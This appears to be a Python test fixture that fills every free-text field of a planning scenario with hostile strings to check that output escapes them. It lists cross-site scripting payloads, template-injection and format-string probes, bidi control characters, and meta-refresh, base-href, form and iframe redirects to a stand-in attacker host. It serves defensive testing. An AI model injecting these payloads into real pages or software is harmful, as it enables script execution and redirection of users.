"""A scenario whose every free text would do something, were it read as anything but text.

All of it is allowed: nobody can know which names people, places and publications have. A field of
free text that is new in ``returnplan.domain`` is filled too.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import fields, replace
from itertools import count
from pathlib import Path
from typing import Any, get_type_hints

import returnplan as rp
from returnplan.domain import Scenario, one_line, type_of_table, words
from returnplan.scenario.background import FILE

ROOT = Path(__file__).resolve().parents[1]
ALLOCATIONS = {"NA": "today", "__proto__": "two_more_teams"}
"""Names of allocations, and those of the valley's allocations that they are."""
MARK = "§"
"""Stands before the number at the end of each text, so that every text is there once."""
MARKUP = (
    "<img src=x onerror=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "</script><script>alert(2)</script>",
    "\"'><svg onload=alert(3)>",
    "<a href=javascript:alert(4)>x</a>",
    "قرية <b>النبع</b>",
    "</style><style>*{display:none}</style>",
    "x--><!--<title></textarea>",
    "<base href=//evil.example><form action=//evil.example>",
    "<iframe src=//evil.example></iframe>",
    "&lt;b&gt;&#60;&amp;",
)
SIGNS = (
    r"$\frac{1}{0}$ \b \n",
    "{{7*7}}{%raw%}${7*7}#{7}",
    "%s %(x)d {0} {name} {date}",
    "ze\N{ZERO WIDTH SPACE}ro\N{ZERO WIDTH JOINER}wi\N{RIGHT-TO-LEFT MARK}dth",
    "_a_ *b* ~~c~~ `d`",
    "_x0041_ &A&P&D",
    "]]><?xml?><!DOCTYPE x>",
    "[k](javascript:alert(5)) ![i](x)",
    "a;b,c|d \"q\" 'r'",
    '" id="a0123456789" x="#a0123456789"',
    "$& $1 $` \\1 \\g<0>",
    "\\u202e \\x1b[31m %0a",
)
LEADS = ("", "_", "#", "'")
"""Signs that something reads as more at the beginning of a text."""
IDS = ("NA", "null", "__proto__", "constructor", "1e5", "007", "TRUE", "nan", "#REF", "_x0041_")
"""Ids that a program may take for something else."""


Texts = dict[str, list[str]]
"""Texts by the field in which they stand."""


class Filler:
    """Puts a text of its own into each free field; what stands for the same stays the same."""

    def __init__(self) -> None:
        self.given: Texts = {}
        self._numbers = count(1)
        self._known: dict[tuple[str, str], str] = {}

    def text(self, field: str) -> str:
        """A text that was not given yet, kept under the field that it goes into."""
        number = next(self._numbers)
        parts = LEADS[number % 4], MARKUP[number % len(MARKUP)], SIGNS[number % len(SIGNS)]
        text = f"{parts[0]}{parts[1]} {parts[2]} {MARK}{number}"
        self.given.setdefault(field, []).append(text)
        return text

    def same(self, field: str, value: str) -> str:
        """The text that stands for a value of a field."""
        if (field, value) not in self._known:
            self._known[field, value] = self.text(field)
        return self._known[field, value]


JOINED = ("district", "zone", "skill", "group")
"""Fields whose values several rows share."""
KNOWN_SKILLS = ("building", "utilities")
"""Skills that the model does not know by name: a scenario may call them as it likes."""


def hostile_scenario(filler: Filler) -> Scenario:
    """Return the valley with two allocations and a hostile text in every free field."""
    valley = rp.load(ROOT / "scenarios" / "valley")
    valley = _renamed(valley)
    tables: dict[str, Any] = {
        table: tuple(_filled(row, filler) for row in getattr(valley, table))
        for table in type_of_table
    }
    tables["places"] = tuple(
        replace(place, names={"en": filler.text("name_en"), "ar": filler.text("name_ar")})
        for place in tables["places"]
    )
    tables["allocations"] = tuple(
        replace(header, title=filler.text("allocations.title")) for header in valley.allocations
    )
    return replace(
        valley,
        name="$x$ {0} %s {{7-7}} & q",
        title=filler.text("title"),
        **tables,
    )


def _renamed(valley: Scenario) -> Scenario:
    """The valley with two allocations, and ids that look like something else."""
    old = {old: new for new, old in ALLOCATIONS.items()}
    headers = [header for header in valley.allocations if header.name in old]
    ids = [community.id for community in valley.communities]
    places = [place.id for place in valley.places]
    new = dict(zip([*ids[:5], *places[3:]], IDS, strict=False)) | old

    def row(one: Any) -> Any:
        changes = {
            item.name: new[value]
            for item in fields(one)
            if isinstance(value := getattr(one, item.name), str) and value in new
        }
        return replace(one, **changes)

    tables: dict[str, Any] = {
        table: tuple(
            row(one)
            for one in getattr(valley, table)
            if getattr(one, "allocation", None) in (None, *old)
        )
        for table in type_of_table
    }
    return replace(valley, **tables | {"allocations": tuple(row(one) for one in headers)})


def free_fields(row_type: type) -> Iterator[str]:
    """Fields of a noun that hold any line of text."""
    for name, hint in get_type_hints(row_type, include_extras=True).items():
        rules = [getattr(part, "func", None) for part in getattr(hint, "__metadata__", ())]
        if words in rules or one_line in rules:
            yield name


def _filled(row: Any, filler: Filler) -> Any:
    """A noun with a hostile text in each free field."""
    changes: dict[str, str] = {}
    for name in free_fields(type(row)):
        value = getattr(row, name)
        if name == "skill" and value not in KNOWN_SKILLS:
            continue
        field = f"{type(row).__name__}.{name}"
        changes[name] = filler.same(name, value) if name in JOINED else filler.text(field)
    return replace(row, **changes)


def write_hostile(folder: Path) -> Texts:
    """Write the scenario with outlines of its districts; return the texts that stand in it."""
    filler = Filler()
    scenario = hostile_scenario(filler)
    rp.write(scenario, folder)
    districts = dict.fromkeys(place.district for place in scenario.places)
    features = [
        {
            "type": "Feature",
            "properties": {"district": district, "source": filler.text("outline.source")},
            "geometry": {"type": "Polygon", "coordinates": [_square(number * 0.15)]},
        }
        for number, district in enumerate([*districts, filler.text("outline.district")])
    ]
    text = json.dumps({"type": "FeatureCollection", "features": features}, ensure_ascii=False)
    (folder / FILE).write_text(text, encoding="utf-8")
    return filler.given


def _square(east: float) -> list[list[float]]:
    corners = [(0, 0), (1, 0), (1, 1), (0, 1), (0, 0)]
    return [[east - 0.05 + 0.15 * x, -0.2 + 0.3 * y] for x, y in corners]
